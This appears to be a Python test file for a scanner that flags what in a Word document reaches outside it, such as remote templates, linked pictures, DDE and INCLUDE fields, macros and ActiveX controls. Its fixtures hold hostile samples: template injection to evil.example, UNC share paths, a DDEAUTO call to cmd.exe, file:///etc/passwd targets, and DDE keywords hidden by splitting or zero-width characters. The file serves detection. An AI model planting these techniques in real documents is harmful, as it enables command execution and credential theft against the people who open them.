"""What of a Word file reaches beyond it: remote templates, linked pictures, fields that fetch, macros."""

from __future__ import annotations

import pytest

from pipeline.word.outside import MOST_REACHES, Outside, Reach, reaching_out
from pipeline.word.package import Package, opened
from tests.support.bare_package import bare, unzipped, zipped
from tests.support.hand_made import FORMAL, IMPRINT, hand_made

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
LINKED = (
    "<w:p><w:r><w:t>填表</w:t></w:r></w:p><w:p><w:r><w:pict><v:shape><v:imagedata {}/></v:shape></w:pict></w:r></w:p>"
)


def found(data: bytes) -> tuple[Outside, ...]:
    package = opened(data)
    assert isinstance(package, Package)
    return reaching_out(package)


def kinds(data: bytes) -> set[Reach]:
    return {each.kind for each in found(data)}


def related(kind: str, target: str, *, outside: bool = True, part: str = "word/_rels/document.xml.rels") -> bytes:
    """A file with one relationship more."""
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/>'
    files = unzipped(bare("<w:p/>"))
    whole = f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'
    return zipped({**files, part: whole.encode()})


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def sign(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instruction(*pieces: str) -> str:
    return "".join(run(f'<w:instrText xml:space="preserve">{piece}</w:instrText>') for piece in pieces)


def with_field(*pieces: str) -> bytes:
    return bare(f"<w:p>{sign('begin')}{instruction(*pieces)}{sign('separate')}{run('<w:t>1</w:t>')}{sign('end')}</w:p>")


@pytest.mark.parametrize(
    ("kind", "target", "reach"),
    [
        (f"{OFFICE}/attachedTemplate", "http://evil.example/a.dotm", Reach.TEMPLATE),
        (f"{OFFICE}/attachedTemplate", r"file:///\\evil.example\share\a.dotm", Reach.TEMPLATE),
        (f"{OFFICE}/attachedTemplate", r"\\evil.example\share\a.dotm", Reach.TEMPLATE),
        (f"{OFFICE}/attachedTemplate", "file:////evil.example/a.dotm", Reach.TEMPLATE),
        (
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
            "https://e.example",
            Reach.TEMPLATE,
        ),
        (f"{OFFICE}/image", "http://evil.example/a.png", Reach.PICTURE),
        (f"{OFFICE}/image", "file:///etc/passwd", Reach.PICTURE),
        (f"{OFFICE}/oleObject", "mhtml:http://evil.example/a.html!x-usc:b", Reach.OBJECT),
        (f"{OFFICE}/frame", "http://evil.example/f.html", Reach.PAGE),
        (f"{OFFICE}/subDocument", "../others/a.docx", Reach.PAGE),
        (f"{OFFICE}/aFChunk", "http://evil.example/a.html", Reach.CHUNK),
        (f"{OFFICE}/mailMergeSource", r"file:///\\evil\share\a.xlsx", Reach.DATA),
        (f"{OFFICE}/somethingNew", "http://evil.example", Reach.OTHER),
    ],
)
def test_a_relationship_that_leads_out_is_told(kind: str, target: str, reach: Reach) -> None:
    assert found(related(kind, target)) == (Outside(reach, "word/_rels/document.xml.rels", target),)


def test_a_relationship_counts_in_any_part_in_any_case_and_without_its_mode() -> None:
    remote, kind = "http://evil.example/a.png", f"{OFFICE}/image"
    assert kinds(related(kind, remote, part="word/_rels/header7.xml.rels")) == {Reach.PICTURE}
    assert kinds(related(kind, remote, part="WORD/_RELS/Footer1.xml.RELS")) == {Reach.PICTURE}
    assert kinds(related(kind, remote, outside=False)) == {Reach.PICTURE}


@pytest.mark.parametrize(
    ("kind", "target", "reach"),
    [
        (f"{MICROSOFT}/vbaProject", "vbaProject.bin", Reach.MACROS),
        (f"{MICROSOFT}/vbaProject", "harmless.png", Reach.MACROS),
        (f"{OFFICE}/control", "activeX/activeX1.xml", Reach.CONTROL),
        (f"{OFFICE}/aFChunk", "chunk.html", Reach.CHUNK),
        ("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "t.xml", Reach.PAGE),
    ],
)
def test_what_runs_or_is_taken_in_is_told_although_it_lies_within(kind: str, target: str, reach: Reach) -> None:
    assert kinds(related(kind, target, outside=False)) == {reach}


@pytest.mark.parametrize(
    "pieces",
    [
        [r"DDEAUTO c:\\windows\\system32\\cmd.exe"],
        [r" dde excel "],
        ["D", "D", "E", "AUTO x y"],
        [" " * 5000 + "DDE x"],
        ["D\u200bDE x"],
        ['INCLUDEPICTURE "http://evil.example/a.png" \\d'],
        [r"INCLUDETEXT C:\\a.txt"],
        ["LINK Excel.Sheet.12 x"],
        [r"IMPORT \\\\evil\\a.gif"],
        [r"DATABASE \d x"],
        ["MACROBUTTON AutoOpen 点我"],
        ["RD a.docx"],
    ],
)
def test_a_field_that_fetches_or_runs_is_told_however_it_is_cut(pieces: list[str]) -> None:
    assert kinds(with_field(*pieces)) == {Reach.FIELD}


def test_a_field_is_told_in_every_form_that_word_keeps_it_in() -> None:
    simple = bare('<w:p><w:fldSimple w:instr=" INCLUDETEXT a.txt "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')
    nested = bare(
        f"<w:p>{sign('begin')}{instruction('IF 1 = 1 ')}{sign('begin')}{instruction('DDE a b')}{sign('end')}"
        f"{sign('separate')}{sign('end')}</w:p>"
    )
    named_by_another = bare(
        f"<w:p>{sign('begin')}{sign('begin')}{instruction('QUOTE 68')}{sign('separate')}{run('<w:t>DD</w:t>')}"
        f"{sign('end')}{instruction('EAUTO a b')}{sign('separate')}{sign('end')}</w:p>"
    )
    over_paragraphs = bare(f"<w:p>{sign('begin')}{instruction('D')}</w:p><w:p>{instruction('DE a')}{sign('end')}</w:p>")
    unended = bare(f"<w:p>{sign('begin')}{instruction('DDE a b')}</w:p>")
    deleted = bare(f"<w:p>{sign('begin')}<w:r><w:delInstrText>DDE a</w:delInstrText></w:r>{sign('end')}</w:p>")
    in_a_header = bare("<w:p/>", header1=f"<w:p>{sign('begin')}{instruction('LINK a')}{sign('end')}</w:p>")
    for data in (simple, nested, named_by_another, over_paragraphs, unended, deleted, in_a_header):
        assert kinds(data) == {Reach.FIELD}


def test_a_tag_within_an_instruction_is_told_for_what_it_fills_in_may_be_one_that_runs() -> None:
    for words in ("{{ 名称 }}", "D{% if 1 %}DE", "D[[{{ 零 }}]]DE", "｛｛名称｝｝"):
        within = bare(f"<w:p>{sign('begin')}{run(f'<w:t>{words}</w:t>')}{sign('separate')}{sign('end')}</w:p>")
        assert kinds(within) == {Reach.FIELD}
    shown = f"{sign('begin')}{instruction('PAGE')}{sign('separate')}{run('<w:t>{{ 名称 }}</w:t>')}{sign('end')}"
    assert kinds(bare(f"<w:p>{shown}{run('<w:t>{{ 名称 }}</w:t>')}</w:p>")) == set()


def test_addresses_without_a_relationship_are_told() -> None:
    for markup in ('src="http://evil.example/a.png"', r'src="\\evil\share\a.png"', 'o:href="file:///etc/passwd"'):
        assert kinds(bare(LINKED.format(markup))) == {Reach.PICTURE}
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/a.png"/></svg>'
    assert kinds(zipped({**unzipped(bare("<w:p/>")), "word/media/image1.svg": svg})) == {Reach.PICTURE}
    merge = "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>"
    assert kinds(bare("<w:p/>", settings=merge)) == {Reach.DATA}


def test_a_link_is_told_when_a_picture_uses_it() -> None:
    honest = related(f"{OFFICE}/hyperlink", "http://www.example.gov.cn/")
    assert found(honest) == ()
    abused = {
        **unzipped(bare(LINKED.format('r:href="rId99"'))),
        **{name: data for name, data in unzipped(honest).items() if name.endswith("document.xml.rels")},
    }
    assert kinds(zipped(abused)) == {Reach.PICTURE}
    clicked = unzipped(bare('<w:p><w:hyperlink r:id="rId99"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'))
    assert kinds(zipped({**abused, "word/document.xml": clicked["word/document.xml"]})) == set()


def test_honest_files_reach_nowhere() -> None:
    assert found(hand_made(FORMAL, imprint=IMPRINT)) == ()
    own = [r"file:///C:\Users\wang\AppData\Roaming\Microsoft\Templates\公文.dotm", "file:///home/wang/模板/公文.dotx"]
    for target in own:
        assert found(related(f"{OFFICE}/attachedTemplate", target)) == ()
    for name in (
        "PAGE",
        "NUMPAGES \\* Arabic",
        "TOC \\o",
        "REF DDE",
        "HYPERLINK x",
        "= 1 + 2",
        "EMBED Equation.3",
        "研学",
    ):
        assert found(with_field(name)) == ()
    mentioned = bare("<w:p><w:r><w:t>DDE、INCLUDETEXT、http://www.example.gov.cn/</w:t></w:r></w:p>")
    assert found(mentioned) == ()


def test_a_part_that_nobody_can_look_into_is_told() -> None:
    files = unzipped(bare("<w:p/>"))
    broken = zipped({**files, "word/_rels/header1.xml.rels": b"<Relationships"})
    assert found(broken) == (Outside(Reach.UNREADABLE, "word/_rels/header1.xml.rels", ""),)


def test_very_many_are_told_in_part_and_at_once() -> None:
    many = bare(f"<w:p>{(sign('begin') + instruction('DDE a')) * 20_000}</w:p>")
    assert len(found(many)) <= MOST_REACHES
    pictures = "".join(LINKED.format(f'src="http://evil.example/{at}.png"') for at in range(2_000))
    assert len(found(bare(pictures))) == MOST_REACHES
